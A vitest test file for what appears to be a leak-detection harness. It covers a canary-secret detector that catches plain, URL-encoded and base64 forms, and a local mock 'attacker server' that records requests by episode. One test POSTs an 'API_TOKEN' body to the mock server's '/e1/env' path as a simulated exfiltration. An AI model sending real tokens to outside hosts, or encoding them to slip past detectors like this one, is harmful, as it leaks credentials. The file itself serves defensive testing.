import { afterEach, describe, expect, it } from 'vitest';
import { containsLeak, startAttackerServer, type AttackerServer } from './attacker-server.js';

describe('containsLeak', () => {
  const secret = 'WARDEN-CANARY-ENV-0123456789abcdef';
  it.each([
    ['as is', `API_TOKEN=${secret}`, true],
    ['url-encoded', `d=${encodeURIComponent(`token: ${secret}!`)}`, true],
    ['base64url in a query', `/c?d=${Buffer.from(`{"k":"${secret}"}`).toString('base64url')}`, true],
    ['base64 in a body', Buffer.from(`API_TOKEN=${secret}\n`).toString('base64'), true],
    ['absent', 'API_TOKEN=something-else', false],
    ['a prefix only', secret.slice(0, 20), false],
  ])('%s', (_, text, expected) => {
    expect(containsLeak(text, secret)).toBe(expected);
  });
});

describe('startAttackerServer', () => {
  let server: AttackerServer | undefined;
  afterEach(async () => {
    await server?.close();
    server = undefined;
  });

  it('records every request with its body, filterable by episode', async () => {
    server = await startAttackerServer();
    const first = await fetch(`${server.origin}/e1/env`, { method: 'POST', body: 'API_TOKEN=x' });
    expect(first.status).toBe(404);
    await first.text();
    await (await fetch(`${server.origin}/e2/ping?q=1`)).text();
    expect(server.requests('e1')).toEqual([{ method: 'POST', url: '/e1/env', body: 'API_TOKEN=x' }]);
    expect(server.requests('e2')).toEqual([{ method: 'GET', url: '/e2/ping?q=1', body: '' }]);
    expect(server.requests()).toHaveLength(2);
    expect(server.requests('e3')).toEqual([]);
  });
});
